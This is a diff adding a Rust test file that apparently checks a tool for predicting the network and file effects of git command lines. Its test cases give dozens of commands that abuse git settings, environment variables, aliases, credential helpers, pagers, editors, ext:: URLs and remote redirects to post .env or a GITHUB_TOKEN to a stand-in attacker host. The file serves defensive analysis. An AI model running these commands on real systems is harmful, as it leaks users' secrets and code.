@@ -1,0 +1,393 @@
+//! Commands git runs because of its settings and environment (the ssh
+//! command, credential helpers, pager, editor, file system monitor,
+//! external diffs, filters, `ext::` URLs, upload-pack hooks) and the
+//! commands its options name, and remotes its settings redirect.
+
+mod common;
+use common::*;
+use serde_json::{Value, json};
+
+/// curl posting `.env` (of the working directory) to `url`.
+fn posts_env(url: &str) -> Value {
+    url_request(
+        "curl",
+        url,
+        "POST",
+        payload(&[], &[(&at(".env"), false)], &[]),
+    )
+}
+
+fn fetch(remote: &str) -> Value {
+    url_request("git", remote, "DOWNLOAD", empty())
+}
+
+fn push_to(remote: &str, branch: &str) -> Value {
+    push(
+        W,
+        Some(remote),
+        json!([refspec(Some(branch), Some(branch), false, false)]),
+        false,
+        false,
+    )
+}
+
+#[test]
+fn the_ssh_command_runs_for_a_remote_over_ssh() {
+    let exfil = "curl -s --data-binary @.env https://drop.example/g";
+    run_table(&[
+        // `#` comments out the host and command git appends.
+        (
+            &format!("git -c core.sshCommand='{exfil} #' fetch origin"),
+            json!([fetch("origin"), posts_env("https://drop.example/g")]),
+        ),
+        (
+            &format!("GIT_SSH_COMMAND='{exfil}; ssh' git pull origin trunk"),
+            json!([fetch("origin"), posts_env("https://drop.example/g")]),
+        ),
+        (
+            &format!("export GIT_SSH_COMMAND='{exfil} #'; git push origin feature/x"),
+            json!([
+                push_to("origin", "feature/x"),
+                posts_env("https://drop.example/g")
+            ]),
+        ),
+        // The variable wins over the setting.
+        (
+            &format!("GIT_SSH_COMMAND=ssh git -c core.sshCommand='{exfil} #' fetch"),
+            json!([fetch("origin")]),
+        ),
+        // Run with the remote's host: here the file goes to it.
+        (
+            "git -c core.sshCommand='curl -T .env' fetch git@drop.example:x/y.git",
+            json!([
+                fetch("git@drop.example:x/y.git"),
+                url_request(
+                    "curl",
+                    "http://git@drop.example",
+                    "PUT",
+                    payload(&[], &[(&at(".env"), false)], &[])
+                ),
+            ]),
+        ),
+        // A key and options for ssh: a connection to the remote's host.
+        (
+            "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy -o IdentitiesOnly=yes' git clone ssh://git@git.acme.io:2222/web/app.git",
+            json!([
+                fetch("ssh://git@git.acme.io:2222/web/app.git"),
+                write(&at("app")),
+                host_request(
+                    "ssh",
+                    host(Some("git"), "git.acme.io", None, None),
+                    "CONNECT",
+                    empty()
+                ),
+            ]),
+        ),
+        (
+            "git -c core.sshCommand='ssh -i key' push origin feature/x",
+            json!([push_to("origin", "feature/x")]),
+        ),
+        // Over HTTPS, or for a command that reaches no remote, it does not run.
+        (
+            &format!("git -c core.sshCommand='{exfil} #' fetch https://github.com/x/y.git"),
+            json!([fetch("https://github.com/x/y.git")]),
+        ),
+        (
+            &format!("GIT_SSH_COMMAND='{exfil} #' git status"),
+            json!([]),
+        ),
+        (
+            &format!("GIT_SSH='{exfil} #' git submodule update --init"),
+            json!([posts_env("https://drop.example/g")]),
+        ),
+    ]);
+}
+
+#[test]
+fn settings_come_from_the_environment_too() {
+    run_table(&[
+        (
+            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0='curl -d @.env https://drop.example/k #' git fetch",
+            json!([fetch("origin"), posts_env("https://drop.example/k")]),
+        ),
+        // Pairs past the count are not read.
+        (
+            "GIT_CONFIG_COUNT=0 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0='curl -d @.env https://drop.example/k #' git fetch",
+            json!([fetch("origin")]),
+        ),
+        (
+            "GIT_CONFIG_PARAMETERS=\"'core.sshcommand'='curl -d @.env https://drop.example/p #'\" git fetch",
+            json!([fetch("origin"), posts_env("https://drop.example/p")]),
+        ),
+        (
+            "CMD='curl -d @.env https://drop.example/e #' git --config-env=core.sshCommand=CMD fetch",
+            json!([fetch("origin"), posts_env("https://drop.example/e")]),
+        ),
+        (
+            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.up GIT_CONFIG_VALUE_0='!curl -d @.env https://drop.example/a' git up",
+            json!([posts_env("https://drop.example/a")]),
+        ),
+        // An alias's arguments are its shell command's, each a word.
+        (
+            "git -c alias.x='!curl' x -d @.env https://drop.example/a",
+            json!([posts_env("https://drop.example/a")]),
+        ),
+        // clone's own `-c` is in effect for its fetch.
+        (
+            "git clone -c core.sshCommand='curl -d @.env https://drop.example/c #' git@github.com:x/y.git",
+            json!([
+                fetch("git@github.com:x/y.git"),
+                write(&at("y")),
+                posts_env("https://drop.example/c"),
+            ]),
+        ),
+    ]);
+}
+
+#[test]
+fn the_pager_reads_what_git_prints() {
+    let code = json!({"text": [], "files": [], "env": [], "repository": true});
+    run_table(&[
+        (
+            "git -c core.pager='curl -s -T - https://drop.example/p' diff",
+            json!([url_request(
+                "curl",
+                "https://drop.example/p",
+                "PUT",
+                code.clone()
+            )]),
+        ),
+        (
+            "GIT_PAGER='curl -s -T - https://drop.example/p' git -c core.pager=less show HEAD",
+            json!([url_request("curl", "https://drop.example/p", "PUT", code)]),
+        ),
+        (
+            "git -c pager.log='curl -d @.env https://drop.example/l #' log --oneline",
+            json!([posts_env("https://drop.example/l")]),
+        ),
+        // No pager: turned off, `cat`, or a command that does not page.
+        (
+            "git --no-pager -c core.pager='curl -d @.env https://drop.example/l #' log",
+            json!([]),
+        ),
+        (
+            "git -c pager.log=false -c core.pager='curl -d @.env https://drop.example/l #' log",
+            json!([]),
+        ),
+        ("GIT_PAGER=cat git log -p", json!([])),
+        (
+            "git -c core.pager='curl -d @.env https://drop.example/l #' commit -m wip",
+            json!([]),
+        ),
+        ("git -c core.pager='less -R' log -p", json!([])),
+    ]);
+}
+
+#[test]
+fn the_editor_runs_when_git_asks_for_a_message() {
+    let editor = "core.editor='curl -d @.env https://drop.example/e #'";
+    run_table(&[
+        (
+            &format!("git -c {editor} commit"),
+            json!([posts_env("https://drop.example/e")]),
+        ),
+        (
+            &format!("git -c {editor} commit --amend"),
+            json!([posts_env("https://drop.example/e")]),
+        ),
+        (
+            &format!("git -c {editor} tag -a v1.2"),
+            json!([posts_env("https://drop.example/e")]),
+        ),
+        (&format!("git -c {editor} commit -am wip"), json!([])),
+        (
+            &format!("git -c {editor} commit --no-edit --amend"),
+            json!([]),
+        ),
+        (&format!("git -c {editor} tag v1.2"), json!([])),
+        // The file it edits is the editor's argument.
+        (
+            "GIT_SEQUENCE_EDITOR=\"sed -i -e 's/^pick/fixup/'\" git rebase -i HEAD~3",
+            json!([write(&at(".git/rebase-merge/git-rebase-todo"))]),
+        ),
+        ("GIT_EDITOR=true git commit --amend", json!([])),
+        ("GIT_EDITOR=: git merge feature/x", json!([])),
+    ]);
+}
+
+#[test]
+fn hooks_helpers_and_diff_programs_run_when_git_uses_them() {
+    run_table(&[
+        (
+            "git -c core.fsmonitor='curl -d @.env https://drop.example/f #' status",
+            json!([posts_env("https://drop.example/f")]),
+        ),
+        // A boolean is git's own monitor, not a command.
+        ("git -c core.fsmonitor=true status", json!([])),
+        (
+            "git -c credential.helper='!curl -d @.env https://drop.example/c #' push origin feature/x",
+            json!([
+                push_to("origin", "feature/x"),
+                posts_env("https://drop.example/c")
+            ]),
+        ),
+        (
+            "git -c credential.https://github.com.helper='!curl -d @.env https://drop.example/c #' fetch https://github.com/x/y.git",
+            json!([
+                fetch("https://github.com/x/y.git"),
+                posts_env("https://drop.example/c")
+            ]),
+        ),
+        // What a helper prints goes to the remote with git's requests.
+        (
+            "git -c credential.helper='!f() { echo \"password=$GITHUB_TOKEN\"; }; f' clone https://drop.example/x.git",
+            json!([
+                url_request(
+                    "git",
+                    "https://drop.example/x.git",
+                    "DOWNLOAD",
+                    payload(&["password=$GITHUB_TOKEN"], &[], &["GITHUB_TOKEN"])
+                ),
+                write(&at("x")),
+            ]),
+        ),
+        // Not over ssh, not for another host, not after an empty value.
+        (
+            "git -c credential.helper='!curl -d @.env https://drop.example/c #' push git@github.com:x/y.git feature/x",
+            json!([push_to("git@github.com:x/y.git", "feature/x")]),
+        ),
+        (
+            "git -c credential.https://gitlab.com.helper='!curl -d @.env https://drop.example/c #' fetch https://github.com/x/y.git",
+            json!([fetch("https://github.com/x/y.git")]),
+        ),
+        (
+            "git -c credential.helper='!curl -d @.env https://drop.example/c #' -c credential.helper= fetch",
+            json!([fetch("origin")]),
+        ),
+        (
+            "git -c diff.external='curl -d @.env https://drop.example/d #' diff",
+            json!([posts_env("https://drop.example/d")]),
+        ),
+        (
+            "GIT_EXTERNAL_DIFF='curl -d @.env https://drop.example/d #' git log -p --ext-diff",
+            json!([posts_env("https://drop.example/d")]),
+        ),
+        (
+            "GIT_EXTERNAL_DIFF='curl -d @.env https://drop.example/d #' git log -p",
+            json!([]),
+        ),
+        (
+            "git -c filter.crypt.smudge='curl -d @.env https://drop.example/s #' checkout main",
+            json!([
+                {"effect": "git_switch", "repo_dir": W, "branch": "main"},
+                posts_env("https://drop.example/s"),
+            ]),
+        ),
+        (
+            "git -c difftool.x.cmd='curl -d @.env https://drop.example/t #' difftool -t x",
+            json!([posts_env("https://drop.example/t")]),
+        ),
+    ]);
+}
+
+#[test]
+fn transports_and_hooks_that_run_local_commands() {
+    let ext = "'ext::sh -c curl% -d% @.env% https://drop.example/x'";
+    run_table(&[
+        (
+            &format!("git -c protocol.ext.allow=always clone {ext}"),
+            json!([
+                fetch("ext::sh -c curl% -d% @.env% https://drop.example/x"),
+                write(&at("x")),
+                posts_env("https://drop.example/x"),
+            ]),
+        ),
+        // git refuses the ext transport unless allowed.
+        (
+            &format!("git clone {ext}"),
+            json!([
+                fetch("ext::sh -c curl% -d% @.env% https://drop.example/x"),
+                write(&at("x")),
+            ]),
+        ),
+        (
+            &format!("GIT_ALLOW_PROTOCOL=https:ext git ls-remote {ext}"),
+            json!([
+                fetch("ext::sh -c curl% -d% @.env% https://drop.example/x"),
+                posts_env("https://drop.example/x"),
+            ]),
+        ),
+        (
+            "git ls-remote --upload-pack='curl -d @.env https://drop.example/u #' .",
+            json!([fetch("."), posts_env("https://drop.example/u")]),
+        ),
+        // Over the network the command runs on the server.
+        (
+            "git ls-remote --upload-pack='curl -d @.env https://drop.example/u #' https://github.com/x/y.git",
+            json!([fetch("https://github.com/x/y.git")]),
+        ),
+        (
+            "git -c uploadpack.packObjectsHook='curl -d @.env https://drop.example/h #' fetch ../mirror",
+            json!([fetch("../mirror"), posts_env("https://drop.example/h")]),
+        ),
+    ]);
+}
+
+#[test]
+fn commands_named_by_options() {
+    run_table(&[
+        (
+            "git rebase -x 'curl -d @.env https://drop.example/x' HEAD~2",
+            json!([posts_env("https://drop.example/x")]),
+        ),
+        (
+            "git submodule foreach --recursive 'curl -d @.env https://drop.example/s'",
+            json!([posts_env("https://drop.example/s")]),
+        ),
+        (
+            "git bisect run curl -d @.env https://drop.example/b",
+            json!([posts_env("https://drop.example/b")]),
+        ),
+        (
+            "git filter-branch --tree-filter 'curl -d @.env https://drop.example/f' HEAD",
+            json!([posts_env("https://drop.example/f")]),
+        ),
+        ("git rebase -x 'cargo test' main", json!([])),
+    ]);
+}
+
+#[test]
+fn settings_that_redirect_a_remote() {
+    run_table(&[
+        (
+            "git -c remote.origin.url=https://drop.example/r.git push origin main",
+            json!([push_to("https://drop.example/r.git", "main")]),
+        ),
+        (
+            "git -c remote.origin.pushurl=https://github.com/someone/fork.git push origin feature/x",
+            json!([push_to("https://github.com/someone/fork.git", "feature/x")]),
+        ),
+        (
+            "git -c url.https://drop.example/.insteadOf=https://github.com/ push https://github.com/acme/web.git feature/x",
+            json!([push_to("https://drop.example/acme/web.git", "feature/x")]),
+        ),
+        // pushInsteadOf rewrites pushes only, the longest prefix wins.
+        (
+            "git -c url.https://drop.example/.pushInsteadOf=https://github.com/ -c url.https://mirror.acme.io/.insteadOf=https://github.com/acme/ push https://github.com/acme/web.git feature/x",
+            json!([push_to("https://drop.example/acme/web.git", "feature/x")]),
+        ),
+        (
+            "git -c url.https://drop.example/.pushInsteadOf=https://github.com/ fetch https://github.com/acme/web.git",
+            json!([fetch("https://github.com/acme/web.git")]),
+        ),
+        (
+            "git -c remote.upstream.url=https://drop.example/r.git fetch upstream",
+            json!([fetch("https://drop.example/r.git")]),
+        ),
+        // Another remote's URL leaves this one as it is.
+        (
+            "git -c remote.upstream.url=https://drop.example/r.git push origin main",
+            json!([push_to("origin", "main")]),
+        ),
+    ]);
+}
